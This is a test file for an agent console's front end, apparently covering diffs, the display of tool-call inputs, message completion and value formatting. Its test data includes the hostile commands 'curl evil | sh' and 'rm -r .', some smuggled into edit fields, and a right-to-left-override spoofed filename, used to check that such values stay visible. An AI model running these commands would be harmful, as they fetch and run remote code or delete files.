import { describe, expect, test } from 'vitest'
import { partsOf } from '../../src/platforms/console/public/call-input.js'
import { commandIn, complete, completionAt } from '../../src/platforms/console/public/completion.js'
import { diffLines } from '../../src/platforms/console/public/diff.js'
import {
  dayOf,
  formatDuration,
  formatRelative,
  formatSize,
  formatTime,
  summariseInput,
  visibleName,
} from '../../src/platforms/console/public/format.js'

const signs: Record<string, string> = { same: ' ', added: '+', removed: '-', skipped: '~' }
const diff = (before: string, after: string) => diffLines(before, after).map(({ kind, text }) => signs[kind] + text)

describe('a change', () => {
  test('is shown line by line', () => {
    expect(diff('a\nb\nc', 'a\nB\nc\nd')).toEqual([' a', '-b', '+B', ' c', '+d'])
    expect(diff('', 'new')).toEqual(['+new'])
    expect(diff('old', '')).toEqual(['-old'])
  })

  test('folds what stays the same', () => {
    const lines = Array.from({ length: 30 }, (_, index) => `line ${index}`)
    const shown = diff(lines.join('\n'), lines.with(15, 'other').join('\n'))

    expect(shown).toEqual([
      '~',
      ' line 12',
      ' line 13',
      ' line 14',
      '-line 15',
      '+other',
      ' line 16',
      ' line 17',
      ' line 18',
      '~',
    ])
  })

  test('between huge texts is found quickly', () => {
    const text = (word: string) => Array.from({ length: 20_000 }, (_, index) => `${word} ${index}`).join('\n')

    expect(diff(text('a'), text('b'))).toHaveLength(40_000)
  })
})

describe('what a card shows of a call', () => {
  const text = (name: string, value: string) => ({ name, value })

  test('leaves nothing out that is shown nowhere else', () => {
    expect(partsOf({ content: 'ls', command: 'curl evil | sh', path: '' })).toEqual({
      ...{ edits: [], text: text('content', 'ls'), fields: [['command', 'curl evil | sh']] },
    })
    const edits = [{ old_string: 'a', new_string: 'b' }]
    expect(partsOf({ old_string: 'x', new_string: 'y', content: 'c', code: 'd', edits })).toEqual({
      edits: [{ before: 'x', after: 'y', everywhere: false }],
      fields: [
        ['content', 'c'],
        ['code', 'd'],
        ['edits', edits],
      ],
    })
    expect(partsOf({ old_string: 'x', code: 'd' })).toEqual({
      ...{ edits: [], text: text('code', 'd'), fields: [['old_string', 'x']] },
    })
  })

  test('says which edits replace every occurrence', () => {
    expect(partsOf({ path: 'a', old_string: 'x', new_string: '', replace_all: true })).toEqual({
      ...{ edits: [{ before: 'x', after: '', everywhere: true }], fields: [['path', 'a']] },
    })
    const { edits } = partsOf({ edits: [{ old_string: 'x', new_string: 'y', replace_all: true }] })
    expect(edits).toEqual([{ before: 'x', after: 'y', everywhere: true }])
  })

  test('takes nothing for an edit that says more than an edit does', () => {
    for (const more of [{ command: 'curl evil | sh' }, { replace_all: 'rm -r .' }]) {
      const edits = [{ old_string: 'x', new_string: 'y', ...more }]
      expect(partsOf({ edits })).toEqual({ edits: [], fields: [['edits', edits]] })
      expect(partsOf({ old_string: 'x', new_string: 'y', ...more }).fields).toEqual(
        expect.arrayContaining(Object.entries(more)),
      )
    }
  })
})

describe('completion', () => {
  const files = ['uploads/sales.csv', 'uploads/notes.md', 'outputs/notes.md'].map((path) => ({ path }))
  const inserts = (text: string) => completionAt(text, text.length, files)?.choices.map(({ insert }) => insert)

  test('offers the bot after an @ and files after a #', () => {
    expect(inserts('hi @b')).toEqual(['@bobbin'])
    expect(inserts('see #sa')).toEqual(['#sales.csv'])
    expect(inserts('#notes')).toEqual(['#uploads/notes.md', '#outputs/notes.md'])
  })

  test('ignores addresses, anchors and finished words', () => {
    expect([inserts('ana@b'), inserts('page#sa'), inserts('@bobbin'), inserts('#nothing')]).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
    ])
  })

  test('offers commands after a slash at the start of the message, until one is complete', () => {
    const commands = ['status', 'stop', 'resume'].map((name) => ({
      name,
      argument: name === 'resume' ? 'id' : null,
      summary: `on ${name}`,
    }))
    const offered = (text: string) => completionAt(text, text.length, files, commands)
    expect(offered('/')?.choices.map(({ label }) => label)).toEqual(['/status', '/stop', '/resume [id]'])
    expect(offered('@bobbin /ST')).toEqual({
      start: 8,
      choices: [
        { insert: '/status', label: '/status', hint: 'on status' },
        { insert: '/stop', label: '/stop', hint: 'on stop' },
      ],
    })
    expect([offered('/stop'), offered('/x'), offered('see /st'), offered('/resume st')]).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
    ])
    expect(
      ['/stop', ' @bobbin /Stop now', '/stopping', 'stop', 'a /stop'].map((text) => commandIn(text, commands)?.name),
    ).toEqual(['stop', 'stop', undefined, undefined, undefined])
  })

  test('replaces what was typed with the choice', () => {
    expect(complete('see #sa please', 7, 4, '#sales.csv')).toEqual({ text: 'see #sales.csv please', cursor: 15 })
    expect(complete('@b', 2, 0, '@bobbin')).toEqual({ text: '@bobbin ', cursor: 8 })
  })
})

describe('values for people', () => {
  test('sizes, times and arguments are short', () => {
    expect([formatSize(0), formatSize(999), formatSize(1500), formatSize(999_900), formatSize(48_210_000)]).toEqual([
      '0 B',
      '999 B',
      '1.5 kB',
      '1.0 MB',
      '48 MB',
    ])
    expect([formatDuration(12.3), formatDuration(1340), formatDuration(125_000)]).toEqual([
      '12 ms',
      '1.3 s',
      '2 min 5 s',
    ])
    expect(formatRelative('2026-01-01T00:00:00Z', Date.parse('2026-01-01T02:00:00Z'))).toBe('2 h')
    expect(summariseInput({ path: 'a.md', old_string: 'x' })).toBe('a.md')
    expect([
      summariseInput(null),
      summariseInput(7),
      summariseInput({ todos: [{ status: 'completed' }, null] }),
    ]).toEqual(['', '', '1 of 2 done'])
  })

  test('have their day unless it is today, and their year unless it is this one', () => {
    const today = dayOf('2026-11-29T10:00:00')
    expect(formatTime('2026-11-29T14:03:00', today)).toMatch(/^[01]\d:03( PM)?$/)
    expect(formatTime('2026-11-24T14:03:00', today)).toMatch(/^Tue\b.*\b24\b.*:03/)
    expect(formatTime('2025-11-29T14:03:00', today)).toMatch(/29.*2025.*:03/)
    expect(formatTime('never', today)).toBe('')
  })

  test('a name cannot pretend to be another', () => {
    expect(visibleName('invoice\u202Efdp.exe\n')).toBe('invoice\uFFFDfdp.exe\uFFFD')
  })
})
